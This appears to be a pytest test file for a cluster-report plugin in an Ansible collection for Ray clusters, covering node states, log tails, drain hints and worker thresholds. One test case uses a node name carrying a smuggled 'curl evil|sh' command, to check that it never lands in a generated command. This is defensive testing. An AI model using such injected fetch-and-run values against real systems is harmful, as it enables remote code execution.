from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from ansible_collections.argus.verl.plugins.module_utils.argus.cluster.membership import NodeRow, NodeState
from ansible_collections.argus.verl.plugins.plugin_utils.presence.cluster_report import (
    LOG_LINES,
    ClusterInfo,
    Scope,
    cluster_report,
)
from samples import planned

ANSWER = {"complete": True, "missing": [], "rows": [], "waited": 0.0, "problem": "", "jobs": []}
NODES = ["ray-head", "worker-0", "worker-1"]
KEPT = {name: planned() for name in NODES}
DASHBOARD = "http://127.0.0.1:8265 on box"
SCOPE = Scope("mvp", DASHBOARD, NODES, ["ray-head"])


def info(*states: str, problem: str = "", **more: Any) -> ClusterInfo:
    rows = [
        NodeRow(name, "GPU 4", "GPU 4" if state == "alive" else "never joined", NodeState(state))
        for name, state in zip(NODES, states, strict=True)
    ]
    missing = [row.name for row in rows if row.state in ("missing", "differs")]
    return replace(ClusterInfo(not missing and not problem, missing, rows, 9, problem), **more)


ALIVE, NONE = info("alive", "alive", "alive"), info("missing", "missing", "missing")


def report(cluster: ClusterInfo, logs: Any = None, plans: Any = KEPT, **scope: Any) -> dict[str, Any]:
    return cluster_report(cluster, plans, logs or {}, replace(SCOPE, **scope))


def test_report_of_a_ready_cluster() -> None:
    result = report(ALIVE, plans=KEPT | {"worker-0": planned("create")}, outside=["worker-2", "worker-3"])
    # What is free, and the jobs on it.
    worker = {"node_name": "worker-0", "state": "ALIVE", "resources_total": {}, "free": "GPU 1", "jobs": ["a", "b"]}
    used = report(replace(ALIVE, nodes=[{**worker, "state": "DEAD", "jobs": []}, worker]))
    assert (used["header"][3:5], used["rows"][1][3:5]) == (["free", "jobs"], ["GPU 1", "a, b"])
    assert used["rows"][2][3:5] == [None, None]
    assert result["title"] == "Cluster mvp: 3 of 3 nodes as expected, 2 not in this run"
    assert result["header"] == ["node", "state", "resources", "accelerator", "action"]
    assert result["rows"][:2] == [
        ["ray-head", "alive", "GPU 4", "cpu", "keep"],
        ["worker-0", "alive", "GPU 4", "cpu", "create"],
    ]
    assert (result["text"], result["failure_text"]) == ([f"Dashboard: {DASHBOARD}"], "")


def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
    return {"node_name": name, "state": state, "node_ip": "10.0.0.7", "resources_total": {"GPU": 8.0, "memory": 1.0}}


@pytest.mark.parametrize(
    ("cluster", "words"),
    [
        (ClusterInfo.from_json({**ANSWER, "slow": 6.6}), ["7 s"]),
        (ClusterInfo.from_json({**ANSWER, "bad_nodes": {"worker-1": ["sft-1", "sft-2"]}}), ["worker-1", "sft-2"]),
        (info("alive", "draining", "alive"), ["worker-0", "drain.yml"]),
        (
            replace(ALIVE, nodes=[ray_node("worker-0"), ray_node("worker-9"), ray_node("worker-8", "DEAD")]),
            ["worker-9 at 10.0.0.7", "drain.yml -e node=worker-9"],
        ),
        # An odd name is in no command.
        (replace(ALIVE, nodes=[ray_node("x;curl evil|sh\nroot")]), [r"x;curl evil|sh\nroot at"]),
    ],
)
def test_notes_for_operators(cluster: ClusterInfo, words: list[str]) -> None:
    result = report(cluster)
    (line,) = [line for line in result["text"] if not line.startswith("Dashboard")]
    assert all(word in line for word in words) and result["failure_text"] == ""
    assert "evil" not in line or "drain.yml" not in line


def test_report_of_missing_nodes_has_the_end_of_their_logs() -> None:
    log = [*(f"line {number}" for number in range(40)), "wrong token"]
    result = report(info("alive", "missing", "differs"), {"worker-0": log, "ray-head": ["healthy"]})
    assert result["title"] == "Cluster mvp: 1 of 3 nodes as expected"
    assert result["header"][2:4] == ["expected", "seen"]
    assert result["rows"][1] == ["worker-0", "missing", "GPU 4", "never joined", "cpu", "keep"]
    # worker-1 has no log, so it is only in the table.
    lines = [f"  line {number}" for number in range(40 - LOG_LINES + 1, 40)]
    assert result["text"] == ["The last lines of worker-0:", *lines, "  wrong token"]
    assert "`docker logs NODE`" in result["failure_text"]


def test_without_the_head_only_its_log_is_shown() -> None:
    logs = {"ray-head": ["no memory"], "worker-0": ["no head"], "worker-1": ["no head"]}
    assert report(NONE, logs)["text"][1:] == ["  no memory"]
    # The engine has no log of the head, but of workers.
    assert report(NONE, {"worker-0": ["no head"]})["text"][1:] == ["  no head"]
    # A node outside this run has neither an action nor an accelerator.
    result = report(replace(NONE, problem="it does not answer"), plans={name: planned() for name in NODES[:2]})
    assert result["text"] == ["The head: it does not answer"] and result["failure_text"]
    assert result["rows"][2] == ["worker-1", "missing", "GPU 4", "never joined", None, None]


def test_where_the_log_of_a_missing_node_is() -> None:
    plans, removed = KEPT | {"worker-1": planned("create")}, info("alive", "alive", "missing")
    process = {"worker-0": planned(process={"directory": "/home/ml/nodes/worker-0"})}
    # The log of a container that was removed, and that this run has not created again, is gone.
    for cluster, logs, of, end in (
        (removed, {}, plans, "the nodes that are missing"),
        (removed, {"worker-1": ["wrong token"]}, plans, "`docker logs worker-1` shows more"),
        (info("alive", "missing", "missing"), {}, plans, "`docker logs worker-0` shows more"),
        (info("alive", "missing", "alive"), {}, process, "/home/ml/nodes/worker-0/node.log on its host shows more"),
    ):
        assert report(cluster, logs, of)["failure_text"].endswith(end)


TWO, ONE = info("alive", "alive", "missing"), info("alive", "missing", "differs")


@pytest.mark.parametrize(
    ("cluster", "least", "goes_on"),
    [
        *((TWO, None, False), (TWO, 1, True), (TWO, 2, False), (ONE, 1, False), (ONE, 0, True)),
        # A larger number than there are workers means all of them.
        *((TWO, 7, False), (ALIVE, 7, True)),
        # No number of workers replaces the head.
        *((info("missing", "alive", "alive"), 0, False), (replace(TWO, problem="it is slow"), 0, False)),
    ],
)
def test_fewer_workers_are_enough_if_they_are_asked_for(cluster: ClusterInfo, least: int | None, goes_on: bool) -> None:
    result = report(cluster, min_workers=least)
    assert (result["failure_text"] == "") is goes_on
    assert any("cluster_min_workers" in line for line in result["text"]) == (goes_on and bool(cluster.missing))
